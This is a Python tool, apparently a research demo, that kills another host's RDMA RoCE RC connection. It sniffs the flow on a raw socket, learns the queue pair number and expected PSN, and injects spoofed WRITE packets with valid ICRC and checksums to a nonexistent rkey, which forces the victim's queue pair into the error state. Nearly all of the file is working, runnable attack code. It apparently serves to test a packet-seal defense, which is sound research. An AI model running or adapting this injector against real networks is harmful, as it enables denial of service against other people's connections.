#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""forge - end someone else's RC connection with one packet (ReDMArk, NeVerMore).

The attacker of the demo: it can observe the wire and inject packets, and has no key. It
follows one direction of a connection, waits until the wire is silent, and then sends RDMA
WRITEs to an rkey that does not exist, with the PSN that the receiver expects next. A
receiver without a seal must answer with a NAK and move the QP to ERR (IBA 9.7.4.1.1); with
a seal, the receiver drops the packets.

Examples:
  in a srnic-forge --dev va --from 10.77.0.1 --to 10.77.0.2
  in a srnic-forge --dev va --from 10.77.0.1 --to 10.77.0.2 --sth 2
"""
import argparse
import ipaddress
import os
import socket
import struct
import sys
import time
import zlib

ROCE_PORT = 4791
ETH_P_ALL = 3
ETH_P_IP = 0x0800
RC_READ_REQ = 0x0C
RC_WRITE_ONLY = 0x0A
# requests of the RC transport: SEND* WRITE* READ_REQ, atomics, SEND with invalidate, FLUSH,
# ATOMIC WRITE
RC_REQUESTS = set(range(0x00, 0x0D)) | {0x13, 0x14, 0x16, 0x17, 0x1C, 0x1D}
STH_LEN = (0, 12, 16, 20, 28, 32, 48, 64)
PSN_MASK = 0xFFFFFF


class Victim:
    """The values of a connection that a bystander learns from its packets."""

    def __init__(self):
        self.qpn = None
        self.psn = None
        self.frame = None
        self.mtu = 1024

    def watch(self, frame, src, dst):
        """Parse an Ethernet frame; return True if it was a request of the flow."""
        if len(frame) < 14 + 20 + 8 + 12 or frame[12:14] != struct.pack("!H", ETH_P_IP):
            return False
        ihl = (frame[14] & 15) * 4
        ip = frame[14:14 + ihl]
        udp = frame[14 + ihl:14 + ihl + 8]
        if ip[9] != 17 or ip[12:16] != src or ip[16:20] != dst:
            return False
        if struct.unpack("!H", udp[2:4])[0] != ROCE_PORT:
            return False
        bth = frame[14 + ihl + 8:14 + ihl + 20]
        qpn = int.from_bytes(bth[5:8], "big")
        if bth[0] not in RC_REQUESTS or qpn <= 1:
            return False
        psn = int.from_bytes(bth[9:12], "big")
        ext = frame[14 + ihl + 20:]
        used = 1
        if bth[0] == RC_READ_REQ and len(ext) >= 16:
            # a READ uses as many PSNs as its response has packets
            used = max(1, -(-int.from_bytes(ext[12:16], "big") // self.mtu))
        self.qpn = qpn
        self.psn = (psn + used) & PSN_MASK
        self.frame = bytes(frame[:14 + ihl + 8])
        return True


def icrc(ip, udp, body):
    """The invariant CRC (IBA A17.3.3): variant fields count as ones."""
    ip = bytearray(ip)
    ip[1] = 0xFF                        # type of service
    ip[8] = 0xFF                        # time to live
    ip[10:12] = b"\xff\xff"             # header checksum
    udp = bytearray(udp)
    udp[6:8] = b"\xff\xff"
    body = bytearray(body)
    body[4:5] = b"\xff" * len(body[4:5])     # congestion bits, if present
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + body))


def ip_checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged_write(victim, psn, sth_code):
    """Return a WRITE ONLY of 16 bytes to a nonexistent rkey, as `victim`'s peer would send it."""
    eth = victim.frame[:14]
    bth = struct.pack("!BBHIBBH", RC_WRITE_ONLY, 0x40, 0xFFFF, victim.qpn,
                      0x80 | sth_code << 4, psn >> 16, psn & 0xFFFF)
    reth = struct.pack("!QII", 0x1000, 0xDEADBEEF, 16)
    body = bth + reth + os.urandom(STH_LEN[sth_code]) + b"forged by a foe!"
    udp_len = 8 + len(body) + 4
    sport = victim.frame[34:36]
    udp = sport + struct.pack("!HHH", ROCE_PORT, udp_len, 0)
    ip = bytearray(victim.frame[14:34])
    ip[0] = 0x45
    ip[2:4] = struct.pack("!H", 20 + udp_len)
    ip[4:8] = b"\0\0\x40\0"
    ip[10:12] = b"\0\0"
    ip[10:12] = struct.pack("!H", ip_checksum(ip))
    return eth + bytes(ip) + udp + body + icrc(ip, udp, body)


def follow(sock, src, dst, quiet, limit, mtu):
    """Observe until the flow has been silent for `quiet` seconds; at most `limit`."""
    victim = Victim()
    victim.mtu = mtu
    start = last = time.monotonic()
    sock.settimeout(0.05)
    while time.monotonic() - start < limit:
        try:
            frame = sock.recv(65535)
        except TimeoutError:
            frame = b""
        known = victim.qpn is not None
        if frame and victim.watch(frame, src, dst):
            last = time.monotonic()
            if not known:
                print(f"following QP {victim.qpn:#08x}, waiting for silence", flush=True)
        elif victim.qpn is not None and time.monotonic() - last >= quiet:
            return victim
    return victim


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 epilog=__doc__.split("Examples:")[1],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--dev", required=True, help="netdev to watch and to send from")
    ap.add_argument("--from", dest="src", required=True, help="IPv4 address to pose as")
    ap.add_argument("--to", dest="dst", required=True, help="IPv4 address of the victim")
    ap.add_argument("--count", type=int, default=100, help="packets to send (%(default)s)")
    ap.add_argument("--sth", type=int, default=0, choices=range(8), metavar="CODE",
                    help="add a random seal of this size code (0: none)")
    ap.add_argument("--mtu", type=int, default=1024, help="path MTU of the flow (%(default)s)")
    ap.add_argument("--quiet", type=float, default=0.5,
                    help="seconds of silence to wait for (%(default)s)")
    ap.add_argument("--limit", type=float, default=200, help="seconds to wait at most")
    args = ap.parse_args()

    src = ipaddress.IPv4Address(args.src).packed
    dst = ipaddress.IPv4Address(args.dst).packed
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.dev, 0))
    victim = follow(sock, src, dst, args.quiet, args.limit, args.mtu)
    if victim.qpn is None:
        sys.exit(f"forge: no RC request from {args.src} to {args.dst} seen on {args.dev} "
                 f"in {args.limit:.0f} s: is the connection up?")
    for i in range(args.count):
        sock.send(forged_write(victim, (victim.psn + i) & PSN_MASK, args.sth))
    print(f"forge: {args.count} forged WRITEs sent to QP {victim.qpn:#08x}, "
          f"from PSN {victim.psn:#08x} on")


if __name__ == "__main__":
    main()
